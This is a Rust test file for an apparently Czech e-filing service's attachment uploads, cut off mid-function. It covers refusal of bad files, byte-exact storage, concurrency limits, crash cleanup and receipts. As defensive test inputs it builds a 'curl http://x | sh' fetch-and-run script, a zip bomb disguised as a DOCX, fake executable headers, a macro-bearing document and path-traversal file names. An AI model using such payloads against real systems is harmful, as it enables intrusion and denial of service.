//! Attachments (issue #4, point 3, and the file cases of point 8), on both databases: every
//! bad file refused with its message and nothing stored (no row, no blob), bytes and SHA-256
//! read back as sent, limits that hold under concurrent uploads, the sweep after a crash, and
//! submission with and without required attachments. The blob store's contract is tested on
//! a local folder and on a real S3-compatible server (`URAD_TEST_S3_ENDPOINT`, started by
//! `cargo xtask test`).
//!
//! Every test file is made here: PDFs, PNGs, DOCX and ODT documents (with the `zip` crate),
//! programs, zip bombs.

use crate::harness::Backend;
use crate::identity::open;
use bytes::Bytes;
use futures_util::stream::{self, StreamExt};
use serde_json::json;
use sha2::{Digest, Sha256};
use std::io::Write;
use urad_core::{hex, Lang, ManualClock};
use urad_filing::attachments::{
    self, AttachmentError, AttachmentProblem, Attachments, Limits, NewAttachment,
};
use urad_filing::{FilingError, SubmitRequest};
use urad_forms::Forms;
use urad_store::blobs::{BlobError, BlobStore};
use urad_store::{sql, Db};

const PERSON: &str = "p-attach";
const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const ODT: &str = "application/vnd.oasis.opendocument.text";

// ---------------------------------------------------------------------------------------------
// Test files, made here.

/// A real (minimal) PDF, padded with comment lines to `size` bytes at least.
pub(crate) fn pdf(size: usize) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n\
        2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n\
        3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj\n"
        .to_vec();
    let mut line = 0u64;
    while out.len() + 40 < size {
        out.extend_from_slice(format!("% padding line {line:020}\n").as_bytes());
        line += 1;
    }
    out.extend_from_slice(b"trailer <</Root 1 0 R>>\n%%EOF\n");
    out
}

/// A real 1×1 PNG (signature, IHDR, IDAT, IEND with their CRCs).
pub(crate) fn png() -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        out.extend_from_slice(&crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&[0, 255, 0, 0]).unwrap();
    chunk(&mut out, b"IDAT", &z.finish().unwrap());
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A zip file of these parts (deflated, or stored when `stored`).
fn zip_of(parts: &[(&str, &[u8])], stored: &[&str]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        let method = if stored.contains(name) {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        let options = zip::write::SimpleFileOptions::default().compression_method(method);
        writer.start_file(*name, options).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

const CONTENT_TYPES: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const DOCUMENT: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Zadost</w:t></w:r></w:p></w:body></w:document>"#;

/// A real minimal DOCX document.
fn docx() -> Vec<u8> {
    zip_of(
        &[
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", RELS),
            ("word/document.xml", DOCUMENT),
        ],
        &[],
    )
}

/// A real minimal ODT document (its `mimetype` first and stored, as the format asks).
fn odt() -> Vec<u8> {
    zip_of(
        &[
            ("mimetype", ODT.as_bytes()),
            ("META-INF/manifest.xml", br#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#),
            ("content.xml", br#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text><text:p>Zadost</text:p></office:text></office:body></office:document-content>"#),
        ],
        &["mimetype"],
    )
}

/// A zip bomb dressed as a DOCX: a real document's parts, and one of 64 MiB of zeros that
/// packs into a few tens of kilobytes.
fn zip_bomb() -> Vec<u8> {
    let zeros = vec![0u8; 64 * 1024 * 1024];
    zip_of(
        &[
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", RELS),
            ("word/document.xml", &zeros),
        ],
        &[],
    )
}

/// A zip of thousands of tiny parts dressed as a DOCX.
fn zip_of_many_parts() -> Vec<u8> {
    let names: Vec<String> = (0..1500).map(|i| format!("word/media/p{i}.xml")).collect();
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", CONTENT_TYPES),
        ("word/document.xml", DOCUMENT),
    ];
    parts.extend(names.iter().map(|n| (n.as_str(), b"<a/>".as_slice())));
    zip_of(&parts, &[])
}

/// A Linux program (the start of an ELF executable), to be renamed `.pdf`.
pub(crate) fn elf_program() -> Vec<u8> {
    let mut out = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    out.resize(4096, 0x90);
    out
}

/// A Windows program (MZ header and PE signature).
fn windows_program() -> Vec<u8> {
    let mut out = vec![0u8; 4096];
    out[..2].copy_from_slice(b"MZ");
    out[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    out[0x80..0x84].copy_from_slice(b"PE\0\0");
    out
}

/// The bytes as a stream of chunks of `chunk` bytes, as a request body arrives.
fn body(
    bytes: Vec<u8>,
    chunk: usize,
) -> impl futures_util::Stream<Item = Result<Bytes, std::io::Error>> {
    let bytes = Bytes::from(bytes);
    let chunks: Vec<Result<Bytes, std::io::Error>> = (0..bytes.len())
        .step_by(chunk)
        .map(|start| Ok(bytes.slice(start..(start + chunk).min(bytes.len()))))
        .collect();
    stream::iter(chunks)
}

// ---------------------------------------------------------------------------------------------
// Set-up.

/// The shipped forms and a test form with a required slot, a conditional one and an optional
/// one (in a folder of its own, like content/forms/).
fn forms() -> (Forms, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    for entry in std::fs::read_dir(crate::harness::content_dir().join("forms")).unwrap() {
        let entry = entry.unwrap();
        let to = dir.path().join(entry.file_name());
        std::fs::create_dir_all(&to).unwrap();
        for file in std::fs::read_dir(entry.path()).unwrap() {
            let file = file.unwrap();
            std::fs::copy(file.path(), to.join(file.file_name())).unwrap();
        }
    }
    let test = dir.path().join("prilohy-test");
    std::fs::create_dir_all(&test).unwrap();
    std::fs::write(
        test.join("v1.schema.json"),
        r#"{
  "$schema": "https://json-schema.org/draft/2020-12/schema",
  "type": "object",
  "additionalProperties": false,
  "required": ["kind"],
  "properties": { "kind": { "type": "string", "enum": ["own", "built"] } }
}"#,
    )
    .unwrap();
    std::fs::write(
        test.join("v1.toml"),
        r#"title = { cs = "Test příloh", en = "Attachment test" }

[[steps]]
id = "all"
title = { cs = "Vše", en = "All" }
fields = ["kind"]
attachments = ["photo", "certificate", "extra"]

[fields."kind"]
label = { cs = "Druh", en = "Kind" }
widget = "radios"
options.own = { cs = "Vlastní", en = "Own" }
options.built = { cs = "Stavba", en = "Built" }

[[attachments]]
id = "photo"
label = { cs = "Fotografie", en = "Photo" }
types = ["image/jpeg", "image/png"]
max_files = 2
required = true

[[attachments]]
id = "certificate"
label = { cs = "Osvědčení", en = "Certificate" }
types = ["application/pdf"]
required = true
show_if = { field = "kind", in = ["built"] }

[[attachments]]
id = "extra"
label = { cs = "Další dokumenty", en = "Other documents" }
types = ["application/pdf", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "application/vnd.oasis.opendocument.text", "text/plain"]
max_files = 3
max_file_bytes = 4194304
"#,
    )
    .unwrap();
    (Forms::load_dir(dir.path()).unwrap(), dir)
}

struct Setup {
    store: Attachments,
    forms: Forms,
    clock: ManualClock,
    _dirs: (tempfile::TempDir, tempfile::TempDir),
}

async fn setup(backend: Backend, limits: Limits) -> Setup {
    let (db, db_dir) = open(backend).await;
    let blobs = BlobStore::local(&db_dir.path().join("blobs")).unwrap();
    let (forms, forms_dir) = forms();
    Setup {
        store: Attachments { db, blobs, limits },
        forms,
        clock: ManualClock::at(1_800_000_000),
        _dirs: (db_dir, forms_dir),
    }
}

impl Setup {
    async fn draft(&self, form: &str, data: serde_json::Value) -> String {
        urad_filing::start_draft(
            &self.store.db,
            &self.clock,
            &self.forms,
            PERSON,
            form,
            &data,
        )
        .await
        .unwrap()
    }

    async fn add(
        &self,
        draft: &str,
        slot: &str,
        name: &str,
        bytes: Vec<u8>,
    ) -> Result<attachments::Attachment, AttachmentError> {
        let upload = NewAttachment {
            person_id: PERSON,
            draft_id: draft,
            slot,
            file_name: name,
        };
        attachments::add(
            &self.store,
            &self.clock,
            &self.forms,
            &upload,
            body(bytes, 64 * 1024),
        )
        .await
    }

    /// Rows of attachments, records of uploads, and blobs: what is stored.
    async fn stored(&self) -> (i64, i64, usize) {
        let count = |q: &'static str| {
            let db = self.store.db.clone();
            async move {
                db.fetch_optional(sql(q))
                    .await
                    .unwrap()
                    .unwrap()
                    .get::<i64>("n")
                    .unwrap()
            }
        };
        (
            count("SELECT COUNT(*) AS n FROM attachment").await,
            count("SELECT COUNT(*) AS n FROM attachment_pending").await,
            self.store.blobs.list("attachments").await.unwrap().len(),
        )
    }

    async fn revision(&self, draft: &str) -> i64 {
        urad_filing::draft(&self.store.db, PERSON, draft)
            .await
            .unwrap()
            .unwrap()
            .revision
    }
}

async fn read_all(store: &Attachments, person: &str, id: &str) -> Vec<u8> {
    let (_, mut bytes) = attachments::read(store, person, id).await.unwrap();
    let mut out = Vec::new();
    while let Some(chunk) = bytes.next().await {
        out.extend_from_slice(&chunk.unwrap());
    }
    out
}

crate::for_both_backends!(
    bad_files_are_refused_with_their_message_and_nothing_is_stored,
    files_are_kept_as_sent_typed_by_content_and_only_for_their_owner,
    concurrent_uploads_do_not_pass_the_submission_limits,
    the_sweep_removes_what_a_crash_left_and_nothing_else,
    submission_checks_the_attachments_and_the_receipt_lists_them,
);

async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend: Backend) {
    let limits = Limits {
        file_bytes: 1024 * 1024,
        files: 50,
        submission_bytes: 100 * 1024 * 1024,
    };
    let s = setup(backend, limits).await;
    let draft = s.draft("obecne-podani", json!({})).await;
    let revision = s.revision(&draft).await;

    let refused = |r: Result<attachments::Attachment, AttachmentError>| match r {
        Err(e) => e,
        Ok(a) => panic!("taken: {a:?}"),
    };
    let nothing_stored = |what: &'static str| {
        let s = &s;
        let draft = &draft;
        async move {
            assert_eq!(s.stored().await, (0, 0, 0), "{what}: something was kept");
            assert_eq!(
                s.revision(draft).await,
                revision,
                "{what}: the draft changed"
            );
        }
    };

    // Oversized: stopped at the office's limit for one file (1 MiB here).
    let e = refused(
        s.add(&draft, "documents", "velky.pdf", pdf(3 * 1024 * 1024))
            .await,
    );
    assert!(
        matches!(e, AttachmentError::FileTooLarge { limit, .. } if limit == 1024 * 1024),
        "{e:?}"
    );
    assert_eq!(
        e.message(Lang::Cs),
        "Soubor „velky.pdf“ je větší než 1 MB. Zmenšete ho nebo ho rozdělte."
    );
    assert_eq!(
        e.message(Lang::En),
        "The file “velky.pdf” is larger than 1 MB. Make it smaller or split it."
    );
    nothing_stored("oversized").await;

    // A program renamed to .pdf (Linux and Windows).
    let e = refused(
        s.add(&draft, "documents", "faktura.pdf", elf_program())
            .await,
    );
    assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
    assert_eq!(
        e.message(Lang::Cs),
        "Soubor „faktura.pdf“ je program, ne dokument. Programy nepřijímáme."
    );
    assert!(e.message(Lang::En).contains("“faktura.pdf” is a program"));
    let e = refused(
        s.add(&draft, "documents", "smlouva.pdf", windows_program())
            .await,
    );
    assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
    let e = refused(
        s.add(
            &draft,
            "documents",
            "navod.txt",
            b"#!/bin/sh\ncurl http://x | sh\n".to_vec(),
        )
        .await,
    );
    assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
    nothing_stored("programs").await;

    // A zip bomb dressed as a DOCX, and a zip of too many parts.
    let e = refused(s.add(&draft, "documents", "zadost.docx", zip_bomb()).await);
    assert!(matches!(e, AttachmentError::ZipBomb { .. }), "{e:?}");
    assert!(e
        .message(Lang::Cs)
        .starts_with("Soubor „zadost.docx“ se po rozbalení"));
    assert!(e
        .message(Lang::En)
        .starts_with("The file “zadost.docx” grows"));
    let e = refused(
        s.add(&draft, "documents", "mnoho.docx", zip_of_many_parts())
            .await,
    );
    assert!(matches!(e, AttachmentError::ZipBomb { .. }), "{e:?}");
    // A zip that is no document, and a document with macros.
    let e = refused(
        s.add(
            &draft,
            "documents",
            "archiv.docx",
            zip_of(&[("a.txt", b"hello")], &[]),
        )
        .await,
    );
    assert!(matches!(e, AttachmentError::NotADocument { .. }), "{e:?}");
    let e = refused(
        s.add(
            &draft,
            "documents",
            "makra.docx",
            zip_of(
                &[
                    ("[Content_Types].xml", CONTENT_TYPES),
                    ("word/document.xml", DOCUMENT),
                    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
                ],
                &[],
            ),
        )
        .await,
    );
    assert!(matches!(e, AttachmentError::Macros { .. }), "{e:?}");
    nothing_stored("zip containers").await;

    // A type the slot does not take: the boiler grant's installer certificate is a PDF.
    let boiler = s.draft("kotlikova-dotace", json!({})).await;
    let e = refused(
        s.add(&boiler, "installer_certificate", "osvedceni.pdf", png())
            .await,
    );
    assert!(matches!(e, AttachmentError::WrongType { .. }), "{e:?}");
    assert_eq!(
        e.message(Lang::Cs),
        "Soubor „osvedceni.pdf“ není v povoleném formátu. Sem patří: PDF (podle obsahu souboru, ne podle jeho přípony)."
    );
    assert_eq!(
        e.message(Lang::En),
        "The file “osvedceni.pdf” is not in an accepted format. Accepted here: PDF (by the file's content, not its extension)."
    );
    let e = refused(
        s.add(&boiler, "old_boiler_photo", "kotel.jpg", docx())
            .await,
    );
    assert!(matches!(e, AttachmentError::WrongType { .. }), "{e:?}");
    let e = refused(s.add(&draft, "documents", "prazdny.pdf", Vec::new()).await);
    assert!(matches!(e, AttachmentError::Empty { .. }), "{e:?}");
    let e = refused(s.add(&draft, "nope", "a.pdf", pdf(100)).await);
    assert!(matches!(e, AttachmentError::UnknownSlot(_)), "{e:?}");
    nothing_stored("types").await;

    // Too many files in a slot: the boiler grant takes at most 3 photos of the old boiler.
    for i in 0..3 {
        s.add(&boiler, "old_boiler_photo", &format!("kotel{i}.png"), png())
            .await
            .unwrap();
    }
    let e = refused(
        s.add(&boiler, "old_boiler_photo", "kotel3.png", png())
            .await,
    );
    assert!(
        matches!(e, AttachmentError::TooManyInSlot { max: 3, .. }),
        "{e:?}"
    );
    assert_eq!(
        e.message(Lang::Cs),
        "Soubor „kotel3.png“ už nelze přidat: sem patří nejvýše 3 soubory."
    );
    assert_eq!(s.stored().await, (3, 0, 3), "only the three taken are kept");

    // A stream that breaks off keeps nothing either.
    let broken = stream::iter(vec![
        Ok(Bytes::from(pdf(200_000))),
        Err(std::io::Error::other("connection reset")),
    ]);
    let upload = NewAttachment {
        person_id: PERSON,
        draft_id: &draft,
        slot: "documents",
        file_name: "preruseny.pdf",
    };
    let e = refused(attachments::add(&s.store, &s.clock, &s.forms, &upload, broken).await);
    assert!(matches!(e, AttachmentError::Interrupted { .. }), "{e:?}");
    assert_eq!(s.stored().await, (3, 0, 3));

    // Path-traversal names are cut to their last part; the file is kept under its own key.
    let kept = s
        .add(&draft, "documents", "../../../etc/passwd.pdf", pdf(1000))
        .await
        .unwrap();
    assert_eq!(kept.file_name, "passwd.pdf");
    let kept = s
        .add(
            &draft,
            "documents",
            "..\\..\\Windows\\win.ini.txt",
            b"[fonts]\n".to_vec(),
        )
        .await
        .unwrap();
    assert_eq!(
        (kept.file_name.as_str(), kept.media_type.as_str()),
        ("win.ini.txt", "text/plain")
    );
    let keys = s.store.blobs.list("attachments").await.unwrap();
    assert!(
        keys.iter()
            .all(|k| k.starts_with("attachments/") && !k.contains("..") && !k.contains("passwd")),
        "{keys:?}"
    );
}

async fn files_are_kept_as_sent_typed_by_content_and_only_for_their_owner(backend: Backend) {
    let s = setup(backend, Limits::default()).await;
    let draft = s.draft("obecne-podani", json!({})).await;
    let before = s.revision(&draft).await;

    // 3 MB in 64 KiB chunks: stored as it arrived, read back byte for byte.
    let big = pdf(3 * 1024 * 1024 + 12345);
    let sent_sha = hex(&Sha256::digest(&big));
    let a = s
        .add(&draft, "documents", "Žádost o dotaci.pdf", big.clone())
        .await
        .unwrap();
    assert_eq!(a.sha256, sent_sha);
    assert_eq!(a.size, big.len() as i64);
    assert_eq!(a.media_type, "application/pdf");
    assert_eq!(a.file_name, "Žádost o dotaci.pdf");
    let back = read_all(&s.store, PERSON, &a.id).await;
    assert_eq!(hex(&Sha256::digest(&back)), sent_sha);
    assert!(back == big, "the bytes read back differ");
    assert_eq!(
        s.revision(&draft).await,
        before + 1,
        "adding a file changes the draft"
    );

    // Types from content whatever the name says.
    let d = s
        .add(&draft, "documents", "dopis.pdf", docx())
        .await
        .unwrap();
    assert_eq!(d.media_type, DOCX);
    let o = s.add(&draft, "documents", "dopis", odt()).await.unwrap();
    assert_eq!(o.media_type, ODT);
    let p = s
        .add(&draft, "documents", "foto.docx", png())
        .await
        .unwrap();
    assert_eq!(p.media_type, "image/png");
    assert_eq!(read_all(&s.store, PERSON, &d.id).await, docx());

    // Listed in the order added; nobody else sees, reads or removes them.
    let listed = attachments::list(&s.store.db, PERSON, &draft)
        .await
        .unwrap();
    assert_eq!(
        listed.iter().map(|a| a.id.as_str()).collect::<Vec<_>>(),
        [&a.id, &d.id, &o.id, &p.id]
    );
    assert!(attachments::list(&s.store.db, "p-other", &draft)
        .await
        .unwrap()
        .is_empty());
    assert!(matches!(
        attachments::read(&s.store, "p-other", &a.id).await,
        Err(AttachmentError::UnknownAttachment)
    ));
    assert!(matches!(
        attachments::remove(&s.store, &s.clock, "p-other", &draft, &a.id).await,
        Err(AttachmentError::UnknownDraft)
    ));
    let upload = NewAttachment {
        person_id: "p-other",
        draft_id: &draft,
        slot: "documents",
        file_name: "x.pdf",
    };
    assert!(matches!(
        attachments::add(&s.store, &s.clock, &s.forms, &upload, body(pdf(100), 50)).await,
        Err(AttachmentError::UnknownDraft)
    ));

    // Removing takes the row and the blob, and changes the draft.
    let revision = s.revision(&draft).await;
    attachments::remove(&s.store, &s.clock, PERSON, &draft, &o.id)
        .await
        .unwrap();
    assert_eq!(s.revision(&draft).await, revision + 1);
    assert_eq!(s.stored().await, (3, 0, 3));
    assert!(matches!(
        attachments::read(&s.store, PERSON, &o.id).await,
        Err(AttachmentError::UnknownAttachment)
    ));
    assert!(matches!(
        attachments::remove(&s.store, &s.clock, PERSON, &draft, &o.id).await,
        Err(AttachmentError::UnknownAttachment)
    ));

    // A file kept under the earlier layout (a folder per draft) is read and removed by the
    // key stored with it.
    let earlier = format!("attachments/{draft}/{}", p.id);
    let bytes = read_all(&s.store, PERSON, &p.id).await;
    s.store
        .blobs
        .put(&earlier, Bytes::from(bytes.clone()))
        .await
        .unwrap();
    let current = format!("attachments/{}/{}", &p.id[..2], p.id);
    s.store.blobs.delete(&current).await.unwrap();
    s.store
        .db
        .write_one(
            sql("UPDATE attachment SET blob_key = $1 WHERE id = $2")
                .bind(&earlier)
                .bind(&p.id),
        )
        .await
        .unwrap();
    assert_eq!(read_all(&s.store, PERSON, &p.id).await, bytes);
    attachments::remove(&s.store, &s.clock, PERSON, &draft, &p.id)
        .await
        .unwrap();
    assert!(!s
        .store
        .blobs
        .list("attachments")
        .await
        .unwrap()
        .contains(&earlier));
    assert_eq!(s.stored().await, (2, 0, 2));
}

async fn concurrent_uploads_do_not_pass_the_submission_limits(backend: Backend) {
    // Bytes: 1 MiB a submission, files of 300 000 bytes: three fit, not four.
    let limits = Limits {
        file_bytes: 10 * 1024 * 1024,
        files: 50,
        submission_bytes: 1024 * 1024,
    };
    let s = setup(backend, limits).await;
    let draft = s.draft("obecne-podani", json!({})).await;
    let uploads = (0..8).map(|i| {
        let s = &s;
        let draft = &draft;
        async move {
            s.add(draft, "documents", &format!("d{i}.pdf"), pdf(300_000))
                .await
        }
    });
    let results = futures_util::future::join_all(uploads).await;
    let taken = results.iter().filter(|r| r.is_ok()).count();
    assert_eq!(taken, 3, "{results:?}");
    for e in results.iter().filter_map(|r| r.as_ref().err()) {
        assert!(
            matches!(e, AttachmentError::SubmissionTooLarge { .. }),
            "{e:?}"
        );
        assert!(
            e.message(Lang::Cs).contains("víc než 1 MB"),
            "{}",
            e.message(Lang::Cs)
        );
    }
    assert_eq!(s.stored().await, (3, 0, 3));

    // Files: 4 a submission, ten small uploads at once.
    let limits = Limits {
        file_bytes: 10 * 1024 * 1024,
        files: 4,
        submission_bytes: 100 * 1024 * 1024,
    };
    let s = setup(backend, limits).await;
    let draft = s.draft("obecne-podani", json!({})).await;
    let before = s.revision(&draft).await;
    let uploads = (0..10).map(|i| {
        let s = &s;
        let draft = &draft;
        async move {
            s.add(
                draft,
                "documents",
                &format!("t{i}.txt"),
                format!("text {i}\n").into_bytes(),
            )
            .await
        }
    });
    let results = futures_util::future::join_all(uploads).await;
    assert_eq!(
        results.iter().filter(|r| r.is_ok()).count(),
        4,
        "{results:?}"
    );
    for e in results.iter().filter_map(|r| r.as_ref().err()) {
        assert!(
            matches!(e, AttachmentError::TooManyFiles { max: 4, .. }),
            "{e:?}"
        );
    }
    assert_eq!(s.stored().await, (4, 0, 4));
    assert_eq!(
        s.revision(&draft).await,
        before + 4,
        "one revision per file taken"
    );
}

async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) {
    let s = setup(backend, Limits::default()).await;
    let draft = s.draft("obecne-podani", json!({})).await;
    let kept = s
        .add(&draft, "documents", "kept.pdf", pdf(5000))
        .await
        .unwrap();
    let db: &Db = &s.store.db;

    // A process stopped between writing a blob and committing its row (long ago), and
    // another while removing a blob; a third process is uploading right now.
    let pending = |id: &'static str, state: &'static str, touched: i64| {
        sql("INSERT INTO attachment_pending (id, draft_id, blob_key, state, started_at, touched_at) \
             VALUES ($1, $2, $3, $4, $5, $5)")
        .bind(id)
        .bind(draft.as_str())
        .bind(format!("attachments/{draft}/{id}"))
        .bind(state)
        .bind(touched)
    };
    let now = 1_800_000_000;
    db.write([
        pending("crashed", "uploading", now - 3600),
        pending("removing", "discard", now - 10),
        pending("in-progress", "uploading", now - 30),
    ])
    .await
    .unwrap();
    for id in ["crashed", "removing", "in-progress"] {
        s.store
            .blobs
            .put(
                &format!("attachments/{draft}/{id}"),
                Bytes::from_static(b"%PDF-1.4 left"),
            )
            .await
            .unwrap();
    }
    // And an upload cut off in the middle (its future dropped, as a process dies): its record
    // stays, its blob was never completed.
    let endless = stream::iter(vec![Ok::<_, std::io::Error>(Bytes::from(pdf(100_000)))])
        .chain(stream::pending());
    let upload = NewAttachment {
        person_id: PERSON,
        draft_id: &draft,
        slot: "documents",
        file_name: "cut.pdf",
    };
    let cut = tokio::time::timeout(
        std::time::Duration::from_millis(300),
        attachments::add(&s.store, &s.clock, &s.forms, &upload, endless),
    )
    .await;
    assert!(cut.is_err(), "the upload was cut off");
    assert_eq!(s.stored().await, (1, 4, 4));

    // Ten minutes on: the crashed upload is stale, the one in progress is not; the cut one
    // was touched at `now` and is not stale yet either.
    s.clock.advance(600);
    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
        .await
        .unwrap();
    assert_eq!(swept.abandoned, 1);
    assert_eq!(swept.blobs_removed, 2);
    let left = s.store.blobs.list("attachments").await.unwrap();
    assert_eq!(
        left,
        [
            format!("attachments/{draft}/in-progress"),
            format!("attachments/{}/{}", &kept.id[..2], kept.id)
        ]
        .into_iter()
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect::<Vec<_>>()
    );
    assert_eq!(s.stored().await, (1, 2, 2));
    assert_eq!(read_all(&s.store, PERSON, &kept.id).await, pdf(5000));

    // Later, the cut upload is stale too: its record goes; the committed file stays.
    s.clock.advance(900);
    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
        .await
        .unwrap();
    assert_eq!(
        swept.abandoned, 2,
        "the cut upload and the one no longer touched"
    );
    assert_eq!(s.stored().await, (1, 0, 1));
    assert_eq!(read_all(&s.store, PERSON, &kept.id).await, pdf(5000));
    // Running it again finds nothing.
    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
        .await
        .unwrap();
    assert_eq!(swept, attachments::Swept::default());

    // An upload taken over by a sweep while it was still arriving fails; nothing is left.
    let s2 = &s;
    let draft2 = &draft;
    let slow = stream::iter(0..4).then(move |i| async move {
        if i == 2 {
            // The process stalls for long: another process's sweep takes the upload over.
            s2.clock.advance(2000);
            attachments::sweep(&s2.store.db, &s2.store.blobs, &s2.clock, 900)
                .await
                .unwrap();
        }
        let _ = draft2;
        Ok::<_, std::io::Error>(Bytes::from(pdf(70_000)))
    });
    let upload = NewAttachment {
        person_id: PERSON,
        draft_id: &draft,
        slot: "documents",
        file_name: "pomaly.pdf",
    };
    let e = attachments::add(&s.store, &s.clock, &s.forms, &upload, slow)
        .await
        .unwrap_err();
    assert!(matches!(e, AttachmentError::Expired { .. }), "{e:?}");
    attachments::sweep(db, &s.store.blobs, &s.clock, 900)
        .await
        .unwrap();
    assert_eq!(s.stored().await, (1, 0, 1));
}

async fn submission_checks_the_attachments_and_the_receipt_lists_them(backend: Backend) {
    let s = setup(backend, Limits::default()).await;
    fn request(draft: &str) -> SubmitRequest<'_> {
        SubmitRequest {
            person_id: PERSON,
            draft_id: draft,
            scope: "form:prilohy-test",
            lang: Lang::Cs,
            attachment_limits: Limits::default(),
        }
    }
    let submit = |draft: String| {
        let s = &s;
        async move {
            urad_filing::submit(&s.store.db, &s.clock, &s.forms, "KUMSK", &request(&draft)).await
        }
    };

    // Without the required photo: refused, naming the slot; nothing received.
    let draft = s.draft("prilohy-test", json!({"kind": "own"})).await;
    match submit(draft.clone()).await {
        Err(FilingError::Attachments(problems)) => {
            assert_eq!(problems.len(), 1, "{problems:?}");
            assert!(
                matches!(&problems[0], AttachmentProblem::Missing { slot, .. } if slot == "photo")
            );
            assert_eq!(problems[0].message(Lang::Cs), "Přiložte „Fotografie“.");
            assert_eq!(problems[0].message(Lang::En), "Attach “Photo”.");
        }
        other => panic!("{other:?}"),
    }
    assert!(urad_filing::receipt(&s.store.db, PERSON, &draft)
        .await
        .unwrap()
        .is_none());

    // The certificate is required only when its slot is shown (kind = built).
    let built = s.draft("prilohy-test", json!({"kind": "built"})).await;
    s.add(&built, "photo", "dum.png", png()).await.unwrap();
    match submit(built.clone()).await {
        Err(FilingError::Attachments(problems)) => {
            assert!(
                matches!(&problems[..], [AttachmentProblem::Missing { slot, .. }] if slot == "certificate"),
                "{problems:?}"
            );
        }
        other => panic!("{other:?}"),
    }

    // With them: the receipt lists every file, in slot order then upload order.
    let extra = s
        .add(&draft, "extra", "priloha.txt", b"Doplneni\n".to_vec())
        .await
        .unwrap();
    let first = s.add(&draft, "photo", "a.png", png()).await.unwrap();
    let doc = s.add(&draft, "extra", "dopis.docx", docx()).await.unwrap();
    let mut second_png = png();
    second_png.extend_from_slice(b"trailing bytes");
    let second = s.add(&draft, "photo", "b.png", second_png).await.unwrap();
    let receipt = submit(draft.clone()).await.unwrap();
    let listed: Vec<(&str, &str, &str)> = receipt
        .attachments
        .iter()
        .map(|a| (a.slot.as_str(), a.file_name.as_str(), a.sha256.as_str()))
        .collect();
    assert_eq!(
        listed,
        [
            ("photo", "a.png", first.sha256.as_str()),
            ("photo", "b.png", second.sha256.as_str()),
            ("extra", "priloha.txt", extra.sha256.as_str()),
            ("extra", "dopis.docx", doc.sha256.as_str()),
        ]
    );
    assert_eq!(receipt.attachments[3].media_type, DOCX);
    assert_eq!(receipt.attachments[3].size, docx().len() as i64);
    // The stored receipt says the same, and so does submitting again.
    let stored = urad_filing::receipt(&s.store.db, PERSON, &draft)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored, receipt);
    assert_eq!(submit(draft.clone()).await.unwrap(), receipt);

    // A submitted draft's attachments can no longer change.
    assert!(matches!(
        s.add(&draft, "extra", "pozde.pdf", pdf(100)).await,
        Err(AttachmentError::AlreadySubmitted)
    ));
    assert!(matches!(
        attachments::remove(&s.store, &s.clock, PERSON, &draft, &first.id).await,
        Err(AttachmentError::AlreadySubmitted)
    ));
    assert_eq!(read_all(&s.store, PERSON, &first.id).await, png());

    // Limits lowered since the files were added are checked on submitting too.
    let many = s.draft("prilohy-test", json!({"kind": "own"})).await;
